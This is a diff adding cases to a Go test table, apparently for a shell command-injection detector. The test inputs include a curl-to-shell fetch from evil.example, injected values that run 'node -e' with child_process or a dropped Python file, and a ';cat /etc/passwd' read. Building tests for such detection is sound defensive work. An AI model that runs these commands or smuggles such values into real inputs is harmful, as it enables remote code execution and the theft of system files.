@@ -342,6 +342,9 @@ func TestShellDocuments(t *testing.T) {
 		{"script from a command", body("doc", "mknod -m 660 /dev/port c 1 4\nchown root:kmem /dev/port"), "", ""},
 		{"transcript piped to a shell", body("doc", "$ echo hi\nhi\n$ curl -s https://evil.example/x | sh"), "cmdi-separator", "cmdi-separator"},
 		{"breakout before lines", q("host", "127.0.0.1\nid"), "*", "*"},
+		{"env then the project's script", body("doc", "$env:DEBUG='app';node app.js"), "", "cmdi-command-word"},
+		{"interpreter fed code", q("host", "x;node -e 'require(\"child_process\").exec(\"id\")'"), "*", "*"},
+		{"interpreter run on a dropped file", q("host", "x;python /tmp/x.py"), "*", "*"},
 		{"words then a separator", q("q", "foo bar\n;cat /etc/passwd"), "*", "*"},
 	})
 	for _, c := range []struct {
